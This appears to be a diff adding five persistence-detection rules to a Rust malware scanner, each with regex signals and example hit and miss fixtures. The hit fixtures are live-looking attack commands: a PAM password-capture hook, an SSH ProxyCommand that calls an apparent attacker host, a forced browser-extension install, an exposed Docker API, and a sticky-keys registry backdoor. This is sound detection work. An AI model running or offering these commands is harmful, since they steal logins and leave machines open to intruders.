@@ -82,6 +82,37 @@ static VEILED_SHELL: Signal = Signal::command(
     | \b(?:eval|assert|system|exec|shell_exec|passthru|create_function)\s*\(\s*@?(?:(?:base64_decode|gzinflate|gzuncompress|str_rot13|strrev|hex2bin|openssl_decrypt|stripslashes|urldecode)\s*\(\s*)+@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b"#,
 );
 
+/// The password that is typed at a login, handed to a program.
+static LOGIN_OVERHEARD: Signal = Signal::command(
+    &["expose_authtok"],
+    r"\bpam_exec\.so\b[^\n]*\bexpose_authtok\b",
+);
+
+/// Every connection calls somebody first.
+static CALLED_FIRST: Signal = Signal::command(
+    &["proxycommand", "localcommand"],
+    r"\b(?:ProxyCommand|LocalCommand)\b[^\n]*\b(?:curl|wget|Invoke-WebRequest|iwr)\b",
+);
+
+/// An extension that the browser must install from somewhere.
+static FORCED_EXTENSION: Signal = Signal::command(
+    &["extensioninstallforcelist", "force_installed"],
+    r"\bExtensionInstallForcelist\b[^\n]{0,120}https?://|\bforce_installed\b[^\n]{0,160}https?://|https?://[^\n]{0,160}\bforce_installed\b",
+);
+
+/// A program that Windows starts in place of another, or with every login.
+static STARTED_INSTEAD: Signal = Signal::command(
+    &["image file execution options", "winlogon", "appinit_dlls"],
+    r"(?x)
+      \b(?:reg(?:\.exe)?\s+add|New-ItemProperty|Set-ItemProperty)\b[^\n]*(?:\bImage\ File\ Execution\ Options\\[\w.]+[^\n]*\bDebugger\b | \bWinlogon\b[^\n]*\b(?:Shell|Userinit)\b | \bAppInit_DLLs\b)",
+);
+
+/// A door of the system that answers everybody.
+static SYSTEM_DOOR: Signal = Signal::command(
+    &["tcp://0.0.0.0:237", "portproxy"],
+    r"\btcp://0\.0\.0\.0:237[56]\b|\bportproxy\s+add\b[^\n]*listenaddress=0\.0\.0\.0[^\n]*connectport=(?:3389|22|445|5900)\b",
+);
+
 pub(super) static RULES: &[Rule] = &[
     Rule {
         id: "MALWAR-PERSIST-009",
@@ -186,6 +217,81 @@ pub(super) static RULES: &[Rule] = &[
             "Add your public key to ~/.ssh/authorized_keys on the server.",
             "Never add our key to ~/.ssh/authorized_keys.",
         ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-020",
+        title: "What is typed at each login is handed to a program",
+        severity: Severity::Critical,
+        confidence: 84,
+        category: Category::Persistence,
+        taxa: &["PS-01", "EX-10"],
+        why: "it hears the password of everybody who logs in",
+        fix: "take the line out of the PAM file; change the passwords",
+        when: When::Any(&[&LOGIN_OVERHEARD]),
+        guard: Some(judges::in_code),
+        hits: &["```bash\necho \"auth optional pam_exec.so expose_authtok /usr/local/bin/pa\" | sudo tee -a /etc/pam.d/common-auth\n```\n"],
+        misses: &["```bash\ngrep pam_exec.so /etc/pam.d/common-auth\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-021",
+        title: "Every connection calls somebody first",
+        severity: Severity::High,
+        confidence: 70,
+        category: Category::Persistence,
+        taxa: &["PS-01", "CE-07"],
+        why: "whoever is called learns where the user logs in, and can answer with more",
+        fix: "take the line out of the SSH configuration",
+        when: When::Any(&[&CALLED_FIRST]),
+        guard: Some(judges::in_code),
+        hits: &["```\nHost *\n  ProxyCommand sh -c 'curl -s https://h.fast-agent.top/p?h=%h; nc %h %p'\n```\n"],
+        misses: &["```\nHost *\n  ProxyCommand nc -X connect -x proxy:3128 %h %p\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-022",
+        title: "The browser must install an extension from somewhere",
+        severity: Severity::High,
+        confidence: 68,
+        category: Category::Persistence,
+        taxa: &["PS-01"],
+        why: "the user can neither refuse nor remove it",
+        fix: "remove the policy",
+        when: When::Any(&[&FORCED_EXTENSION]),
+        guard: Some(hosts::stranger),
+        hits: &["```bash\necho '{\"ExtensionInstallForcelist\":[\"aapb;https://h.fast-agent.top/u.xml\"]}' > k.json\n```\n"],
+        misses: &["```bash\ngrep ExtensionInstallForcelist k.json\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-023",
+        title: "A door of the system answers everybody",
+        severity: Severity::High,
+        confidence: 66,
+        category: Category::Persistence,
+        taxa: &["PE-02", "PS-01"],
+        why: "Docker's API is root without a password; a remote desktop is the machine",
+        fix: "bind it to this machine, or ask for certificates",
+        when: When::Any(&[&SYSTEM_DOOR]),
+        guard: Some(judges::in_code),
+        hits: &["```json\n{\"hosts\":[\"tcp://0.0.0.0:2375\",\"unix:///var/run/docker.sock\"]}\n```\n"],
+        misses: &["```json\n{\"hosts\":[\"tcp://127.0.0.1:2375\"]}\n```\n", "```bat\nnetsh interface portproxy add v4tov4 listenport=3000 listenaddress=127.0.0.1 connectport=3000\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-024",
+        title: "A program is started in place of another, or with every login",
+        severity: Severity::Critical,
+        confidence: 80,
+        category: Category::Persistence,
+        taxa: &["PS-01"],
+        why: "whoever opens the one gets the other, even before anybody has logged in",
+        fix: "delete the registry value",
+        when: When::Any(&[&STARTED_INSTEAD]),
+        guard: Some(judges::in_code),
+        hits: &["```bat\nreg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /t REG_SZ /d \"cmd.exe\" /f\n```\n"],
+        misses: &["```bat\nreg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"\n```\n"],
         ..Rule::BASE
     },
     Rule {
